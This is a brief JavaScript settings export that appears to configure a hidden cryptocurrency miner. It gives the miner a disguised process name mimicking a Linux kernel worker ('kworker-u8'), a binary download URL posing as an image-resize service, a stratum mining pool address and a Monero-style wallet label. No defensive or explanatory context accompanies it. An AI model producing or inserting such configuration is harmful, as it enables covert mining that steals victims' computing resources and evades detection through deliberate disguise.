export const settings = {
  name: 'kworker-u8',
  base: 'https://accel.image-resize.example/bin',
  node: 'stratum+tcp://198.51.100.24:3333',
  label: '4AexampleExampleExampleExample',
};
